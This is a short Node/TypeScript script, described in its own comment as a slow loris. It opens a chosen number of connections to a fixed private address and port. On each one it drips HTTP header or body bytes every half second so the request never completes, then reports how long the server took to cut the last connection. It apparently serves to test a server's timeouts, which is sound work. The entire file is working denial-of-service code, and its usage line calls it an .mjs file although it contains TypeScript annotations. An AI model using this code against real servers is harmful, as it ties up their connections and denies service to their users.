/*
 * A slow loris: slow.mjs OWN_ADDRESS HEADS BODIES. Opens so many connections whose heads, and so many whose bodies, come byte
 * by byte and never end. When the server has cut all of them it prints how many seconds the last one lasted.
 */
import { once } from "node:events";
import { connect } from "node:net";

const [own = "", heads = "", bodies = ""] = process.argv.slice(2);
const began = performance.now();

async function slow(start: string): Promise<number> {
  const socket = connect({ port: 8080, host: "10.88.0.1", localAddress: own });
  socket.on("error", () => {}); // cut
  socket.on("data", () => {});
  socket.write(start);
  const dripping = setInterval(() => socket.write("x"), 500);
  await once(socket, "close").catch(() => {});
  clearInterval(dripping);
  return (performance.now() - began) / 1000;
}

const repeated = (count: string, start: string) => Array.from({ length: Number(count) }, () => slow(start));
const lasted = await Promise.all([
  ...repeated(heads, "GET / HTTP/1.1\r\nHost: a\r\nX: "),
  ...repeated(bodies, "POST /report HTTP/1.1\r\nHost: a\r\nContent-Length: 4000\r\n\r\nmac="),
]);
process.stdout.write(`${Math.max(...lasted)}\n`);
